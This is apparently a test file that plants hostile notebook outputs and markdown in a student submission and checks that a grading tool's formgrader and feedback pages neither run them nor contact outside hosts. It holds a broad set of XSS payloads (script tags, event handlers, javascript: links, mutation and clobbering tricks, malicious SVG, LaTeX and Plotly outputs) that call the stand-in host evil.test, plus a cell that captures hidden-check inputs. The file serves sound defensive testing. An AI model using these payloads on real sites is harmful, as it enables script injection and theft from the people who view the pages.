// Hostile submissions on the pages where they are read: the formgrader's and feedback. Nothing of them runs, and nothing
// leaves the page; what is no attack is still to be seen.
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { paths } from '../../scripts/paths.mjs';
import { cellOf, notebookOf, type Cell, type Notebook } from '../exercises/assignment.js';
import { Class } from '../exercises/course.js';
import { Lab } from './lab.js';
import { Browser, describeInChromium, picture } from './support.js';

const assignment = '01-chain-rule-and-hooks';
const name = notebookOf(assignment).replace('.ipynb', '');
const student = 'Mallory, M. (LATE)';

/** The effect of each payload, if it ran: a mark on the page, and requests to another host and this one. */
const run = (id: string): string =>
  `window.pwned=(window.pwned||[]).concat('${id}');fetch('http://evil.test/${id}');fetch('/pwned/${id}')`;
const pixel = 'http://evil.test/pixel.png';

const html: Record<string, string> = {
  script: `<script>${run('script')}</script>`,
  'script-src': `<script src="http://evil.test/x.js"></script>`,
  onerror: `<img src=x onerror="${run('onerror')}">`,
  'svg-onload': `<svg onload="${run('svg-onload')}"><script>${run('svg-script')}</script></svg>`,
  srcdoc: `<iframe srcdoc="<script>parent.${run('srcdoc')}</script>"></iframe>`,
  'frame-javascript': `<iframe src="javascript:parent.${run('frame')}"></iframe>`,
  object: `<object data="data:text/html,<script>${run('object')}</script>"></object><embed src="${pixel}">`,
  refresh: `<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">`,
  stylesheet: `<link rel="stylesheet" href="http://evil.test/x.css"><style>@import "http://evil.test/y.css";</style>`,
  'style-url': `<div style="background: url(${pixel}); width: 9px; height: 9px">styled</div>`,
  'style-block': `<style>body { background: url(${pixel}) } .score { display: none }</style>`,
  focus: `<input autofocus onfocus="${run('focus')}"><form action="http://evil.test/form"><button>go</button></form>`,
  toggle: `<details open ontoggle="${run('toggle')}"><summary>more</summary></details>`,
  link: `<a href="javascript:${run('link')}" class="bad">here</a><a href="jAvAsCrIpT&colon;${run('link2')}">here</a>`,
  media: `<video autoplay src="http://evil.test/v.mp4" onerror="${run('media')}"><source src="${pixel}"></video>`,
  picture: `<picture><source srcset="${pixel}"><img srcset="${pixel}" src="${pixel}"></picture>`,
  base: `<base href="http://evil.test/">`,
  mutation: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run('mutation')}&gt;">`,
  noscript: `<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></noscript>`,
  clobber: `<form id="submission_id" name="base_url"><input name="attributes"></form><a name="top" id="x">a</a>`,
};

const others: Record<string, object> = {
  javascript: { 'application/javascript': run('mime-javascript') },
  svg: { 'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" onload="${run('mime-svg')}"/>` },
  latex: { 'text/latex': `$\\href{javascript:${run('latex')}}{x}$<script>${run('latex')}</script>` },
  markdown: { 'text/markdown': `<script>${run('mime-markdown')}</script>![x](${pixel})` },
  'png-breaks-out': { 'image/png': `"><script>${run('png')}</script>` },
  widget: { 'application/vnd.jupyter.widget-view+json': { model_id: '</script><script>1</script>' } },
  plotly: {
    'application/vnd.plotly.v1+json': {
      data: [
        { type: 'scatter', x: [1, 2], y: [1, 10], text: [`<a href="javascript:${run('plotly')}">a</a>`] },
        { type: 'image', source: pixel },
        { type: 'scattermap', lon: [1], lat: [1] },
      ],
      layout: {
        title: { text: 'A line </script><script>1</script>' },
        images: [{ source: pixel, x: 0, y: 1, sizex: 1, sizey: 1 }],
        template: { layout: { images: [{ source: pixel }] } },
      },
      config: { plotlyServerURL: 'http://evil.test' },
    },
    'text/html': `<script>${run('plotly-html')}</script>`,
    'text/plain': 'A line.',
  },
  table: { 'text/html': '<table><tr><th>depth</th></tr><tr><td>seven of nine</td></tr></table>' },
};

const words = `Since **two factors** shrink, $dL/dW = x^T \\, dL/dz$ is even; [a paper](https://example.org/paper).

<script>${run('words-script')}</script><img src=x onerror="${run('words-onerror')}">

<img
src="x" onerror="${run('words-lines')}">

[a](javascript:${run('words-link')}) [b][1] <javascript:${run('words-auto')}> ![c](${pixel}) ![d][2]
![e](attachment:none.png) ![f](attachment:dot.png) [g]( java&#115;cript:${run('words-entity')})

$\\href{javascript:${run('words-href')}}{x} \\htmlData{onclick=1}{y} \\includegraphics{${pixel}}$ <iframe src="${pixel}"></iframe>

[1]: javascript:${run('words-reference')}
[2]: ${pixel}

\`\`\`html
<b onclick="1">code</b>
\`\`\`
`;
const DOT =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

const show = (data: object): string =>
  `require('tslab/dist/jupyter').lastWriteDisplayData({ metadata: {}, transient: {}, data: ${JSON.stringify(data)} });`;
const own = (id: string, source: string): Cell => ({
  cell_type: 'code',
  id,
  metadata: {},
  source,
  outputs: [],
});

function attack(notebook: Notebook): void {
  const shows = [...Object.values(html).map((text) => ({ 'text/html': text })), ...Object.values(others)].map(
    show,
  );
  const prints = [
    `console.log('</pre><script>${run('stream').replaceAll("'", '"')}</script>');`,
    `class Odd extends Error { name = '<img src=x onerror=${run('error').replaceAll("'", '')}>'; }
throw new Odd('</pre><script>1</script>');`,
  ];
  // The cells stand before the first check, so that feedback has to show them.
  notebook.cells.splice(1, 0, ...[...shows, ...prints].map((source, i) => own(`attack-${i}`, source)));
  const answer = cellOf(notebook, 'healthy-weights');
  answer.source = words;
  Object.assign(answer, { attachments: { 'dot.png': { 'image/png': DOT } } });
  cellOf(notebook, 'sigmoid-derivative').source = `const seen: number[] = [];
function sigmoidPrime(z: number) { seen.push(z); const a = 1 / (1 + Math.exp(-z)); return a * (1 - a); }`;
  notebook.cells.push(own('prints-inputs', "console.log('cap' + 'tured:', seen.slice(-3));"));
}

interface Found {
  pwned: unknown;
  addresses: string[];
  elements: number;
  handlers: string[];
}

/** The elements of a page that are not the page's own. */
const found = (page: Page): Promise<Found> =>
  page.evaluate(() => {
    const inside = [...document.querySelectorAll('#notebook-container *')];
    const attributes = inside.flatMap((element) => [...element.attributes]);
    return {
      pwned: (window as { pwned?: unknown }).pwned,
      // Links to the web cause no request by themselves.
      addresses: attributes
        .filter((a) => !(a.name === 'href' && a.ownerElement?.tagName === 'A' && /^https?:/.test(a.value)))
        .filter((a) => ['href', 'src', 'srcset', 'action', 'data'].includes(a.name.toLowerCase()))
        .map((a) => a.value)
        .filter((value) => !/^(#|data:image\/png;base64,)/.test(value)),
      elements: document.querySelectorAll(
        '#notebook-container :is(iframe, object, embed, form, link, meta, base, video, style:not(.main-svg *))',
      ).length,
      handlers: attributes.map((a) => a.name).filter((n) => n.startsWith('on')),
    };
  });

const clean: Found = { pwned: undefined, addresses: [], elements: 0, handlers: [] };

async function read(page: Page): Promise<string> {
  await page.waitForFunction(() => document.querySelectorAll('.katex').length > 3);
  await page.waitForFunction(() => document.querySelector('.marked-chart .main-svg'));
  await page.mouse.move(300, 300);
  await page.waitForTimeout(1500); // for what would come late
  return page.locator('#notebook-container').first().innerText();
}

describeInChromium('A student who attacks who reads the work', () => {
  const group = new Class(assignment);
  let lab: Lab | undefined;
  const requests: string[] = [];

  beforeAll(async () => {
    group.release();
    group.handIn(student, {}, attack);
    const { code, output } = group.run('grade');
    expect(code, output).toBe(0);
    expect(output).toContain(`${student}, ${assignment}: 18 of 22, 1 to be read`);
    expect(group.run('feedback')).toMatchObject({ code: 0 });
    const config = path.join(group.folder, 'config');
    mkdirSync(config);
    writeFileSync(
      path.join(config, 'nbgrader_config.py'),
      `c = get_config()\nc.CourseDirectory.root = ${JSON.stringify(group.folder)}\n`,
    );
    const exercises = path.join(paths.notebooks, 'exercises');
    lab = await Lab.open(group.folder, 9494, {
      JUPYTER_CONFIG_PATH: [config, exercises].join(path.delimiter),
    });
    lab.browser.context.on('request', (request) => requests.push(request.url()));
  }, 600_000);

  afterAll(async () => {
    await lab?.close();
    group.remove();
  });

  it('leaves nothing active in the notebook that was graded', () => {
    const { cells } = group.read('autograded', student);
    const outputs = JSON.stringify(cells.map((cell) => cell.outputs));
    // The text stands as it was printed in text/plain and streams.
    const tables = cells.flatMap((cell) =>
      (cell.outputs ?? []).map(
        (output) => (output as { data?: Record<string, string> }).data?.['text/html'] ?? '',
      ),
    );
    expect(tables.join('')).not.toMatch(
      /<(script|img|iframe|svg|style|form|meta|link)|\son\w+=|javascript:|evil/i,
    );
    expect(outputs).not.toMatch(/application\/javascript"|image\/svg\+xml"|text\/latex"|pixel\.png/);
    const answer = cells.find((cell) => cell.source.includes('two factors'))!.source;
    expect(answer).not.toMatch(/<(script|img|iframe)|\]\(\s*java|!\[[cde]/i);
    expect(answer).toContain('![f](attachment:dot.png)');
    expect(answer).toContain('[a paper](https://example.org/paper)');
  });

  it('gets nowhere in the formgrader, where the guide stands beside the answer', async () => {
    const base = new URL(lab!.address).origin;
    const api = await lab!.page.context().newPage();
    await api.goto(`${base}/formgrader/gradebook/${assignment}/${name}`);
    await api.locator('td.name a').first().waitFor({ timeout: 60_000 });
    const submission = await api
      .evaluate(async (url) => {
        const all = (await (await fetch(url)).json()) as { id: string }[];
        return all[0]!.id;
      }, `${base}/formgrader/api/notebook_submissions/${assignment}/${name}`)
      .catch(async () => {
        const href = await api.locator('td.name a').first().getAttribute('href');
        return /submissions\/([^/?]+)/.exec(href ?? '')![1]!;
      });
    const page = await lab!.browser.page(`${base}/formgrader/submissions/${submission}/`);
    const text = await read(page);
    await picture(page, 'formgrader-attacked', { fullPage: true });
    expect(await found(page)).toMatchObject(clean);
    expect(text).toContain('seven of nine');
    expect(text).toContain('One point for each');
    expect(text).toContain('Since two factors shrink');
    expect(text).toContain('captured:');
    // The page's own scripts work: a mark can be given, and is kept.
    const score = page.locator('input.score#healthy-weights');
    await score.waitFor();
    await score.fill('3');
    await score.blur();
    await page.waitForFunction(() => document.querySelector('.score-saved') !== null);
    await page.waitForTimeout(1000);
    const healthy = (await group.course.marks()).find(({ cell }) => cell === 'healthy-weights');
    expect(healthy).toMatchObject({ score: 3, waiting: false });
    for (const list of [
      'manage_students',
      `manage_submissions/${assignment}`,
      `manage_students/${encodeURIComponent(student)}`,
    ]) {
      const other = await lab!.browser.page(`${base}/formgrader/${list}`);
      await other.waitForTimeout(500);
      expect((await found(other)).pwned).toBeUndefined();
    }
  }, 200_000);

  it('asks nobody for anything', () => {
    expect(lab!.browser.forbidden).toEqual([]);
    expect(requests.filter((url) => url.includes('pwned'))).toEqual([]);
  });

  it('gets nowhere in feedback either, which has no guide and no input of a hidden check', async () => {
    const browser = await Browser.open();
    try {
      const asked: string[] = [];
      browser.context.on('request', (request) => asked.push(request.url()));
      const file = path.join(group.folder, 'feedback', student, assignment, `${name}.html`);
      const page = await browser.page(`file://${encodeURI(file)}`);
      const text = await read(page);
      await picture(page, 'feedback-attacked', { fullPage: true });
      expect(await found(page)).toMatchObject(clean);
      expect(asked.filter((url) => !url.startsWith('data:') && !url.startsWith('file:'))).toEqual([]);
      expect(browser.forbidden).toEqual([]);
      expect(text).toContain('seven of nine');
      expect(text).not.toContain('One point for each');
      expect(text).not.toContain('captured:');
      expect(text).toContain('it ran after the inputs of a check were used');
    } finally {
      await browser.close();
    }
    rmSync(path.join(group.folder, 'feedback'), { recursive: true });
  }, 200_000);
});
